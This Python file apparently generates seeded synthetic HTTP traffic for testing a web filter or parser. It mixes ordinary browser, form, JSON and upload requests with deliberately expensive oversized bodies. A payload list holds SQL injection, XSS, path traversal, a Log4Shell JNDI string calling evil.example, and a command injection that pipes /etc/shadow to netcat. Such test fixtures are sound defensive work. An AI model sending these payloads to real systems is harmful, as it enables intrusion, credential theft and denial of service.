"""Requests as browsers and API clients send them, no two alike, and such as are made to cost much. The same seed makes the same ones."""
import json
import random
import string
import urllib.parse
import uuid

WORDS = """summer shoes leather jacket garden table blue green order invoice customer delivery express monday contact support
account balance monthly report quarterly berlin london street house apartment second floor please ring twice leave with neighbour
thanks birthday present wrapped large small medium cotton organic central station point updates lamp by the river""".split()
NAMES = ["Anna Müller", "John O'Neil", "María García", "Li Wei", "Olivia Smith", "Jürgen Groß", "Noah Dubois", "Eve Adams"]
ATTACKS = [
    "1' OR '1'='1' -- ",
    "<script>alert(document.cookie)</script>",
    "../../../../etc/passwd",
    "; cat /etc/shadow | nc 10.0.0.1 4444",
    "${jndi:ldap://evil.example/a}",
    "1 UNION SELECT username, password FROM users",
    "<img src=x onerror=alert(1)>",
    "php://filter/convert.base64-encode/resource=index.php",
]
EVIL_SIZE = 128 * 1024


class Traffic:
    def __init__(self, seed=1):
        self.random = random.Random(seed)

    def make(self, kind, count):
        return [getattr(self, kind)() for _ in range(count)]

    def get(self):
        return self.browser("GET", f"/shop/{self.word()}/{self.number()}?{self.query()}")

    def attack(self):
        attack = urllib.parse.quote_plus(self.random.choice(ATTACKS))
        return self.browser("GET", f"/shop/{self.word()}?q={attack}&{self.query()}")

    def form(self):
        fields = {
            "name": self.random.choice(NAMES), "email": self.email(), "street": self.words(2) + " 17", "zip": self.number(),
            "phone": "+49 30 " + self.number(), "newsletter": "on", "token": self.uuid(),
            "amount": f"{self.random.randrange(999)}.99", "comment": self.words(18) + ".",
        }
        return self.post("application/x-www-form-urlencoded", urllib.parse.urlencode(fields).encode())

    def json1k(self):
        return self.post("application/json", self.json(1, 20, 24))

    def json10k(self):
        return self.post("application/json", self.json(31, 9, 5))

    def upload(self):
        picture = b"\xff\xd8\xff\xe0" + self.random.randbytes(1 << 20).replace(b"\n-", b"\n+")
        return self.multipart([("title", None, self.words(4).encode()), ("file", f"{self.word()}-{self.number()}.jpg", picture)])

    def json_attack(self):
        return self.post("application/json", json.dumps({"name": self.word(), "q": self.random.choice(ATTACKS[:2])}).encode())

    # What is made to cost much.

    def evil_noise_json(self):
        return self.post("application/json", json.dumps([self.noise(EVIL_SIZE)]).encode())

    def evil_noise_form(self):
        return self.post("application/x-www-form-urlencoded", b"a=" + urllib.parse.quote_plus(self.noise(EVIL_SIZE // 2)).encode())

    def evil_many_arguments(self):
        fields = [(self.word() + str(i), self.noise(130)) for i in range(900)]
        return self.post("application/x-www-form-urlencoded", urllib.parse.urlencode(fields).encode())

    def evil_tags(self):
        return self.post("application/json", json.dumps(["<a " * (EVIL_SIZE // 3)]).encode())

    def evil_quotes(self):
        return self.post("application/json", json.dumps(["' or " * (EVIL_SIZE // 5)]).encode())

    def evil_dots(self):
        return self.post("application/json", json.dumps(["a/../" * (EVIL_SIZE // 5)]).encode())

    def evil_letters(self):
        return self.post("application/json", json.dumps(["a" * EVIL_SIZE]).encode())

    # What they consist of.

    def browser(self, method, target, more=(), body=b""):
        lines = [
            f"{method} {target} HTTP/1.1",
            "Host: www.shop.example",
            "User-Agent: Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko)"
            f" Chrome/{120 + self.random.randrange(20)}.0.0.0 Safari/537.36",
            "Accept: text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8",
            "Accept-Language: en-GB,en;q=0.9,de;q=0.7",
            "Accept-Encoding: gzip, deflate, br, zstd",
            f"Referer: https://www.shop.example/{self.word()}/{self.number()}",
            f"Cookie: session={self.uuid()}; theme=dark; consent=analytics.{self.number()}; lang=en",
            "Sec-Fetch-Dest: document",
            "Sec-Fetch-Mode: navigate",
            "Sec-Fetch-Site: same-origin",
            "Upgrade-Insecure-Requests: 1",
            *more,
        ]
        return "\r\n".join(lines).encode() + b"\r\n\r\n" + body

    def post(self, media_type, body):
        return self.browser("POST", f"/api/v1/{self.word()}s", [f"Content-Type: {media_type}", f"Content-Length: {len(body)}"], body)

    def multipart(self, parts):
        boundary = "----WebKitFormBoundary" + "".join(self.random.choices(string.ascii_letters, k=16))
        body = b""
        for name, file, content in parts:
            head = f'--{boundary}\r\nContent-Disposition: form-data; name="{name}"'
            head += f'; filename="{file}"\r\nContent-Type: image/jpeg' if file else ""
            body += head.encode() + b"\r\n\r\n" + content + b"\r\n"
        return self.post(f"multipart/form-data; boundary={boundary}", body + f"--{boundary}--\r\n".encode())

    def json(self, objects, fields, words):
        items = [dict(list(self.item(words).items())[:fields]) for _ in range(objects)]
        return json.dumps(items[0] if objects == 1 else items, ensure_ascii=False).encode()

    def item(self, words):
        return {
            "id": self.uuid(), "name": self.random.choice(NAMES), "email": self.email(), "total": self.random.randrange(9999) + 0.5,
            "active": self.random.random() < 0.5, "created": f"2026-0{self.random.randrange(1, 9)}-17T08:30:00Z",
            "sku": self.word().upper() + "-" + self.number(), "quantity": self.random.randrange(40),
            "note": self.words(1 + words // 2 + self.random.randrange(words // 2 + 1)),
            "url": f"https://cdn.shop.example/img/{self.word()}/{self.number()}.jpg", "city": self.word(), "zip": self.number(),
            "street": self.words(2) + " 8", "phone": "+49 30 " + self.number(), "currency": "EUR", "locale": "en_GB",
            "weight": self.random.randrange(90) + 0.5, "comment": f"{self.words(words)}, ({self.words(3)}).",
            "reference": self.uuid(), "status": self.word(),
        }

    def query(self):
        return f"search={urllib.parse.quote_plus(self.words(3))}&page={self.random.randrange(90)}&sort={self.word()}"

    def noise(self, length):
        """Printable ASCII at random."""
        return "".join(self.random.choices(string.printable[:95], k=length))

    def word(self):
        return self.random.choice(WORDS)

    def words(self, count):
        return " ".join(self.word() for _ in range(count))

    def number(self):
        return str(self.random.randrange(10_000, 100_000))

    def email(self):
        return f"{self.word()}.{self.word()}{self.random.randrange(99)}@mail.example"

    def uuid(self):
        return str(uuid.UUID(int=self.random.getrandbits(128), version=4))
